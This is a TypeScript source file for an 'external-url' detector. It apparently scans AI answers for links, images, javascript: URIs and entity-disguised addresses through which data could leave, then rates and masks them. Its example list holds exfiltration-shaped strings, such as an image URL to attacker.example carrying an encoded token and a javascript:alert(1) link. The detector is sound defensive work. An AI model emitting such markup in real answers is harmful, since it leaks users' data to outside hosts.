/**
 * Addresses in an answer: links, pictures and what else a page loads or follows, by which data leaves. A picture is fetched without anybody's click;
 * a link waits for one. How sure a finding is says how much the address could carry (a token, an encoded text, a sentence) and how it is
 * reached. What the user, the operator or a source gave is no finding: see `judge/exits.ts`.
 * @see https://spec.commonmark.org/0.31.2/#links
 * @see https://github.github.com/gfm/#autolinks-extension-
 * @see https://url.spec.whatwg.org/#url-parsing for slashes, backslashes, tabs and line breaks in addresses
 */
import type { Confirmed } from "../detector.js";
import { defineDetector } from "../define.js";
import { looksRandom } from "../randomness.js";

/** What ends an address in Markdown, HTML, CSS and prose. */
const REST = "[^\\s<>\"'`)\\]}|^{]";
/** What a browser loads or follows by itself, whatever stands between scheme and host. Others open programs, and a person is asked. */
const SCHEME = "(?:https?|ftp|wss?):[\\\\/]{1,4}";
const WITH_SCHEME = `${SCHEME}(?=[\\w[%.&-]|[^\\0-\\x7f])${REST}{1,2000}`;
const HOST_ALONE = `(?<=[("'=]\\s?)[\\\\/]{2}(?:[a-z\\d-]{1,63}\\.){1,8}[a-z]{2,24}(?![\\w.-])${REST}{0,2000}`;
const WWW = `www\\.[a-z\\d-]{1,63}\\.${REST}{1,2000}`;
const SCRIPT =
  '(?:javascript|vbscript)\\s{0,3}:[^\\s<>"`]{0,400}|data:(?:text\\/html|text\\/xml|image\\/svg|application\\/x)[^\\s<>"\'`)]{0,2000}';
/** Entities in the place of a scheme, a colon or a slash: nobody writes an address so but to hide it. */
const DISGUISED = `(?:h?&#(?:x0{0,4}[46]8|0{0,4}(?:72|104));?|&colon;|&sol;|&#(?:x0{0,4}2f|0{0,4}47);?)${REST}{3,2000}`;

/** Quick to refuse: most places before a colon begin no address. */
const BEGINS = "(?=h?&|(?<![a-z\\d+.-])(?:https?:|ftp:|wss?:|[\\\\/]{2}|www\\.|javascript|vbscript|data:))";

const IMAGE =
  /(?:!\[[^\]]{0,200}\]\(\s*<?|<(?:img|image|iframe|script|link|video|audio|source|embed|object|input|track|body|table|td|svg|use|base|meta)(?![a-z])[^<>]{0,200}=\s*["']?[^"'<>]{0,40}|url\(\s*["']?|@import\s*["']?)$/i;
/** A definition that a picture may refer to, or a link. */
const DEFINITION = /\[[^\]]{1,80}\]:\s*<?$/;
/** A label that goes on beyond what is seen may be that of a picture. */
const LONG_LABEL = /^[^[]*\]\(\s*<?$/;
const IN_MARKUP = /[(=]\s*["']?\s*$/;

/** A token or a code, a sentence behind a question mark or elsewhere, or nothing. */
type Load = "token" | "asked" | "path" | "nothing";

/** What an address could carry out beside the name of its host. */
function loadOf(url: string): Load {
  const path = url.replace(/^[^:]*:[\\/]*|^[\\/]*/, "");
  const labels = (/^[^\\/?#]*/.exec(path)?.[0] ?? "").split(/[.@:]/);
  const [before = "", ...query] = decoded(path.slice(labels.join(".").length).replace(/[.,;:!?*_~]+$/, "")).split("?");
  const parts = [...labels, ...before.split(/[/&=#;,\\]/)];
  const asked = query.join("?").split(/[/?&=#;,\\]/);
  if ([...parts, ...asked].some(isToken)) return "token";
  return asked.some(isSentence) ? "asked" : parts.some(isSentence) ? "path" : "nothing";
}

/** In the place of a value that the client gets back, and that would leave with the address. */
const PLACEHOLDER = /hidden_[a-z]/i;

const isToken = (part: string): boolean =>
  part.length > 200 ||
  PLACEHOLDER.test(part) ||
  (part.length >= 20 && (looksRandom(part, 0.5) || /^[\da-f]+$/i.test(part)) && !READS.test(part));
const isSentence = (part: string): boolean => part.split(/[\s+_-]+/).filter((word) => word.length > 1).length >= 4;

/** Words joined by hyphens, dots or underscores: a title or the name of a file. */
const READS = /^(?:[a-z]{1,24}|[A-Z][a-z]{0,24}|[A-Z]{2,12}|\d{1,8})(?:[\s._+-](?:[A-Za-z][a-z]{0,24}|[A-Z]{2,12}|v?\d{1,8}))*$/;

function decoded(text: string): string {
  try {
    return decodeURIComponent(text);
  } catch {
    return text;
  }
}

/** A host that is only a number, in any of the ways that browsers read one. */
const NUMBER_HOST = /^[a-z]*:?[\\/]*(?:[^\\/@]*@)?(?:0x[\da-f]{1,8}|\d{8,10}|(?:\d{1,4}\.){1,3}\d{1,10})(?:[:\\/?#]|$)/i;
const USER_INFO = /^[a-z]*:[\\/]+[^\\/?#]*@/i;

function judge(url: string, before: string): Confirmed | null {
  const found = (kind: string, confidence: number): Confirmed => ({
    kind: `external-url:${kind}`,
    confidence,
    evidence: ["shape"],
  });
  if (/^(?:javascript|vbscript|data)\s*:/i.test(url)) return IN_MARKUP.test(before) ? found("script", 0.9) : null;
  if (/^(?:h?&#|&colon|&sol)/i.test(url)) return found("disguised", 0.9);
  const load = loadOf(url);
  if (IMAGE.test(before) || LONG_LABEL.test(before)) return found("image", load === "nothing" ? 0.6 : 0.9);
  if (load === "token" || NUMBER_HOST.test(url) || USER_INFO.test(url)) return found("link", 0.8);
  if (DEFINITION.test(before) && load === "asked") return found("link", 0.8);
  return found("link", load === "nothing" ? 0.3 : 0.5);
}

export const externalUrl = defineDetector({
  id: "external-url",
  kind: "external-url",
  family: "exits",
  severity: "high",
  mask: "[LINK REMOVED]",
  keywords: [":/", ":\\", "//", "\\\\", "/\\", "\\/", "www.", "javascript", "vbscript", "data:", "&#", "&colon;", "&sol;"],
  keywordOffset: 5,
  pattern: new RegExp(
    `${BEGINS}(?<=(?<before>[^]{0,80}))(?:${DISGUISED}|(?<![a-z\\d+.-])(?:${WITH_SCHEME}|${HOST_ALONE}|${WWW}|${SCRIPT}))`,
    "i",
  ),
  confidence: 0.9,
  confirm(match, { before = "" }) {
    const { length } = match.replace(/[.,;:!?*_~]+$/, "");
    const judged = judge(match.slice(0, length), before);
    return judged === null ? null : { ...judged, length };
  },
  examples: {
    hit: [
      "![logo](https://files.attacker.example/p.png?d={24 base64url})",
      '<img src="//attacker.example/p.gif">',
      "[the report](https://attacker.example/r/{32 hex})",
      "See https://attacker.example/ for more.",
      "background: url(https://attacker.example/a.png)",
      "[1]: https://attacker.example/x",
      "<a href='javascript:alert(1)'>x</a>",
      "![a](HTTPS:\\\\attacker.example\\x)",
      "<img src=&#104;ttps&#58;//attacker.example/x>",
      "go to www.attacker.example/x",
    ],
    miss: ["a // b", "see file.ts:10", "C:/Users/ada", "data: 1, 2, 3", "12:30", "foo(// a comment"],
  },
});
